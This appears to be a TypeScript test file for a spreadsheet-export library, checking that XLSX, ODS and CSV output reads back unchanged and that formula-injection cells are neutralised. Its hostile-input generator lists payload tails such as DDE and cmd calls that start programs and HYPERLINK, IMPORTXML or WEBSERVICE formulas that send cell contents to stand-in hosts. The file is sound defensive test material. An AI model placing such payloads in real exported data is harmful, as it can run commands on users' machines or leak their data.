// What is written for spreadsheets: read back equal, never run, opened by an office suite where there is one.
import { execFileSync, spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { strFromU8, unzipSync } from 'fflate';
import { readOds, readXlsx } from 'hucre';
import { describe, expect, it } from 'vitest';
import type { SheetBook } from './book.js';
import { neutraliseText, restoreText, wouldRun } from './neutral.js';
import { flattenOds } from './ods.js';
import { writeCsv, writeOdsBook, writeXlsxBook } from './write.js';

const book = (rows: SheetBook['tables'][number]['rows']): SheetBook => ({
  title: 'Programme',
  author: 'Trame',
  tables: [
    {
      name: 'Actions : [2027]',
      columns: [
        { title: 'Action', width: 40 },
        { title: 'Début', width: 12 },
        { title: 'Coût', width: 12 },
      ],
      rows,
    },
  ],
});

const rows = [
  ['Un quai, deux ponts', new Date(Date.UTC(2027, 2, 9)), 12.5],
  ['Sur deux\nlignes', null, -3],
  ['deux  blancs & <balises>', null, null],
] as const;

/** Ten thousand cells of the kinds that attacks are made of. */
function listHostile(): readonly string[] {
  const leads = ['', ' ', '\t', '\n', '\r', '\u00a0', '\ufeff', "'", "''", '\u200b', '  \t '];
  const signs = ['=', '+', '-', '@', '|', '%', '\uff1d', '\uff0b', '\uff0d', '\uff20', '\u2212'];
  const tails = [
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.example/?"&A1;"clic")',
    'IMPORTXML(CONCAT("http://x/",A1),"//a")',
    'SUM(1;1)*cmd|"/c notepad"!A1',
    '1+1',
    'DDE("cmd";"/C calc";"x")',
    'WEBSERVICE("http://x")',
    '"";=1+1',
    '1\n=2+2',
    'A1";"=1+1',
  ];
  const all = leads.flatMap((lead) => signs.flatMap((sign) => tails.map((tail) => `${lead}${sign}${tail}`)));
  return Array.from({ length: 10_000 }, (_, k) => `${all[k % all.length]}${k < all.length ? '' : k}`);
}

describe('a book of sheets', () => {
  it('is read back as it was written, in both formats, days and numbers typed', async () => {
    const read = {
      xlsx: await readXlsx(await writeXlsxBook(book(rows))),
      ods: await readOds(flattenOds(await writeOdsBook(book(rows)))),
    };
    for (const { sheets } of Object.values(read)) {
      expect(sheets[0]?.name).toBe('Actions    2027');
      const [head, first, second, third] = sheets[0]?.rows ?? [];
      expect(head).toEqual(['Action', 'Début', 'Coût']);
      expect(first).toEqual([...rows[0]]);
      expect(second?.[0]).toBe('Sur deux\nlignes');
      expect(second?.[2]).toBe(-3);
      expect(third?.[0]).toBe('deux  blancs & <balises>');
    }
  });

  it('holds widths, a head that stays, and lines and blanks as OpenDocument writes them', async () => {
    const xlsx = unzipSync(await writeXlsxBook(book(rows)));
    const sheet = strFromU8(xlsx['xl/worksheets/sheet1.xml'] ?? new Uint8Array());
    expect(sheet).toContain('width="29"');
    expect(sheet).toContain('state="frozen"');
    const ods = unzipSync(await writeOdsBook(book(rows)));
    expect(Object.keys(ods)[0]).toBe('mimetype');
    const content = strFromU8(ods['content.xml'] ?? new Uint8Array());
    expect(content).toContain('<text:p>Sur deux</text:p><text:p>lignes</text:p>');
    expect(content).toContain('deux <text:s text:c="1"/>blancs');
    expect(content).toContain('style:column-width="5.80cm"');
  });

  it('writes no number that is none, and nothing that XML cannot carry', async () => {
    const bytes = await writeXlsxBook(book([['a\u0001b\ud800', null, Number.NaN]]));
    expect((await readXlsx(bytes)).sheets[0]?.rows[1]).toEqual(['ab', null, null]);
  });
});

describe('cells that a spreadsheet would run', () => {
  it('are none of ten thousand hostile ones, in XLSX, ODS and CSV', async () => {
    const hostile = listHostile();
    const given = book(hostile.map((text) => [text, null, null]));
    const table = given.tables[0];
    if (table === undefined) throw new Error('test/write: no table');
    const csv = parse(strFromU8(writeCsv(table)), { delimiter: ';', bom: true }) as string[][];
    const read = [
      (await readXlsx(await writeXlsxBook(given))).sheets[0]?.rows ?? [],
      (await readOds(flattenOds(await writeOdsBook(given)))).sheets[0]?.rows ?? [],
      csv,
    ];
    for (const lines of read) {
      expect(lines).toHaveLength(10_001);
      expect(lines.flat().filter((cell) => typeof cell === 'string' && wouldRun(cell))).toEqual([]);
      expect(csv.every((line) => line.length === 3)).toBe(true);
    }
    const xlsx = unzipSync(await writeXlsxBook(given));
    expect(strFromU8(xlsx['xl/worksheets/sheet1.xml'] ?? new Uint8Array())).not.toMatch(/<f[ >]/);
    const ods = unzipSync(await writeOdsBook(given));
    expect(strFromU8(ods['content.xml'] ?? new Uint8Array())).not.toContain('table:formula');
  });

  it('are told from words, and every text comes back as it was (property)', () => {
    expect(['=1', ' +1', '\u00a0@x', '-5', '\tx'].map(wouldRun)).toEqual([true, true, true, true, true]);
    expect(['a=1', '1-2', '« =1 »', ''].map(wouldRun)).toEqual([false, false, false, false]);
    const texts = fc.oneof(
      fc.string(),
      fc.string({ unit: fc.constantFrom("'", '=', '+', '-', ' ', '\t', '\n', 'a') }),
    );
    fc.assert(
      fc.property(texts, (text) => {
        expect(restoreText(neutraliseText(text))).toBe(text);
        expect(wouldRun(neutraliseText(text))).toBe(false);
      }),
    );
  });
});

describe('CSV', () => {
  it('reads as French spreadsheets do: semicolons, decimal comma, quotes doubled', () => {
    const table = book([['dit « "oui" » ; non', new Date(Date.UTC(2027, 0, 2)), 1.5]]).tables[0];
    if (table === undefined) throw new Error('test/write: no table');
    expect(strFromU8(writeCsv(table)).split('\r\n')[1]).toBe('"dit « ""oui"" » ; non";02/01/2027;1,5');
  });
});

const office = ['soffice', 'libreoffice'].find((name) => spawnSync(name, ['--version']).status === 0);

describe('an office suite', () => {
  it.skipIf(office === undefined)(
    'opens both books (skipped where LibreOffice is not installed)',
    async () => {
      const folder = mkdtempSync(join(tmpdir(), 'trame-sheet-'));
      try {
        writeFileSync(join(folder, 'a.xlsx'), await writeXlsxBook(book(rows)));
        writeFileSync(join(folder, 'b.ods'), await writeOdsBook(book(rows)));
        for (const name of ['a.xlsx', 'b.ods']) {
          execFileSync(office ?? '', [
            '--headless',
            '--convert-to',
            'csv',
            '--outdir',
            folder,
            join(folder, name),
          ]);
          expect(readFileSync(join(folder, `${name[0]}.csv`), 'utf8')).toContain('Un quai, deux ponts');
        }
      } finally {
        rmSync(folder, { recursive: true });
      }
    },
  );
});
